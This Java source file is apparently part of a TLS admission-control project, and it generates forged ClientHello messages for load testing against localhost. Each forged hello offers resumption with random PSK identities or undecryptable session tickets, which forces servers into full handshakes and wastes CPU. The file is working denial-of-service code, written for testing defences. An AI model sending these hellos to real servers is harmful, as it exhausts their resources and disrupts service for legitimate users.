package io.tlsadmit.attack.hello;

import java.nio.charset.StandardCharsets;
import java.util.Random;

/**
 * ClientHellos as a hostile client writes them: well formed, with the extensions of a real client, but
 * offering to resume a session that never existed. A classifier that trusts the offer predicts a cheap
 * resumption; the server then finds the ticket or PSK useless and falls back to a full handshake, which
 * is the CPU the attacker wants it to spend. Each call draws fresh random bytes, so no two hellos (and
 * no two offers) are the same and no cache can remember them.
 */
public final class ForgedHello {
    private static final int TLS12 = 0x0303;
    private static final int TLS13 = 0x0304;
    private static final int X25519 = 0x001d;

    private static final int EXT_SERVER_NAME = 0;
    private static final int EXT_SUPPORTED_GROUPS = 10;
    private static final int EXT_EC_POINT_FORMATS = 11;
    private static final int EXT_SIGNATURE_ALGORITHMS = 13;
    private static final int EXT_EXTENDED_MASTER_SECRET = 23;
    private static final int EXT_SESSION_TICKET = 35;
    private static final int EXT_PRE_SHARED_KEY = 41;
    private static final int EXT_SUPPORTED_VERSIONS = 43;
    private static final int EXT_PSK_KEY_EXCHANGE_MODES = 45;
    private static final int EXT_KEY_SHARE = 51;
    private static final int EXT_RENEGOTIATION_INFO = 0xff01;
    private static final int PSK_DHE_KE = 1;

    /** TLS 1.3 suites first, then ECDHE-RSA/ECDSA GCM and ChaCha, as browsers and the JDK offer them. */
    private static final int[] TLS13_SUITES = {0x1301, 0x1302, 0x1303};
    private static final int[] TLS12_SUITES = {0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0x009e, 0x009f};
    /** ecdsa_secp256r1_sha256 … rsa_pss_rsae_* … rsa_pkcs1_*: the server's RSA certificate can sign with several. */
    private static final int[] SIGNATURE_ALGORITHMS = {0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806, 0x0401, 0x0501, 0x0601};
    private static final int[] GROUPS = {X25519, 0x0017, 0x0018};
    private static final byte[] HOST = "localhost".getBytes(StandardCharsets.US_ASCII);

    private ForgedHello() {
    }

    /**
     * A TLS 1.3 hello with a {@code pre_shared_key} whose identity (100–200 bytes) and binder (32
     * bytes, the SHA-256 size the suites imply) are random, {@code psk_dhe_ke}, and a random X25519
     * key share (any 32 bytes are a valid X25519 public key, so the server gets as far as the key
     * exchange). {@code pre_shared_key} is last, as RFC 8446 requires.
     */
    public static byte[] tls13Psk(Random random) {
        byte[] identity = randomBytes(random, 100 + random.nextInt(101));
        byte[] binder = randomBytes(random, 32);
        return record(TLS13, random, body -> {
            commonExtensions(body);
            tls13Extensions(body, random);
            body.u16(EXT_PSK_KEY_EXCHANGE_MODES).begin(2).begin(1).u8(PSK_DHE_KE).end().end();
            body.u16(EXT_PRE_SHARED_KEY).begin(2)
                    .begin(2).begin(2).bytes(identity).end().u32(random.nextInt() & 0xffffffffL).end()
                    .begin(2).begin(1).bytes(binder).end().end()
                    .end();
        });
    }

    /**
     * A TLS 1.2 hello (no {@code supported_versions}, legacy version 0x0303) with a SessionTicket
     * extension of {@code ticketLength} random bytes: a ticket no server key can decrypt.
     */
    public static byte[] tls12Ticket(Random random, int ticketLength) {
        byte[] ticket = randomBytes(random, ticketLength);
        return record(TLS12, random, body -> {
            commonExtensions(body);
            tls12Extensions(body);
            body.u16(EXT_SESSION_TICKET).begin(2).bytes(ticket).end();
        });
    }

    /** An honest TLS 1.3 hello that offers no resumption: what a new client sends (slow-hello uses its start). */
    public static byte[] tls13New(Random random) {
        return record(TLS13, random, body -> {
            commonExtensions(body);
            tls13Extensions(body, random);
        });
    }

    private interface Extensions {
        void write(TlsWriter w);
    }

    private static byte[] record(int maxVersion, Random random, Extensions extensions) {
        TlsWriter w = new TlsWriter();
        w.u8(0x16).u16(0x0301).begin(2);          // handshake record; 0x0301 as real clients write it
        w.u8(1).begin(3);                          // ClientHello
        w.u16(TLS12).bytes(randomBytes(random, 32));
        // TLS 1.3 clients send a random 32-byte legacy_session_id (RFC 8446 D.4); a TLS 1.2 client
        // offering a ticket sends an empty one here, so only the ticket is on offer.
        w.begin(1).bytes(maxVersion == TLS13 ? randomBytes(random, 32) : new byte[0]).end();
        w.begin(2);
        if (maxVersion == TLS13) {
            for (int suite : TLS13_SUITES) {
                w.u16(suite);
            }
        }
        for (int suite : TLS12_SUITES) {
            w.u16(suite);
        }
        w.end();
        w.begin(1).u8(0).end();                    // compression: null only
        w.begin(2);
        extensions.write(w);
        w.end();
        return w.end().end().toBytes();
    }

    private static void commonExtensions(TlsWriter w) {
        w.u16(EXT_SERVER_NAME).begin(2).begin(2).u8(0).begin(2).bytes(HOST).end().end().end();
        w.u16(EXT_SUPPORTED_GROUPS).begin(2).begin(2);
        for (int group : GROUPS) {
            w.u16(group);
        }
        w.end().end();
        w.u16(EXT_SIGNATURE_ALGORITHMS).begin(2).begin(2);
        for (int algorithm : SIGNATURE_ALGORITHMS) {
            w.u16(algorithm);
        }
        w.end().end();
    }

    private static void tls13Extensions(TlsWriter w, Random random) {
        w.u16(EXT_SUPPORTED_VERSIONS).begin(2).begin(1).u16(TLS13).end().end();
        w.u16(EXT_KEY_SHARE).begin(2).begin(2).u16(X25519).begin(2).bytes(randomBytes(random, 32)).end().end().end();
    }

    private static void tls12Extensions(TlsWriter w) {
        w.u16(EXT_EC_POINT_FORMATS).begin(2).begin(1).u8(0).end().end();
        w.u16(EXT_EXTENDED_MASTER_SECRET).begin(2).end();
        w.u16(EXT_RENEGOTIATION_INFO).begin(2).begin(1).end().end();
    }

    private static byte[] randomBytes(Random random, int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }
}
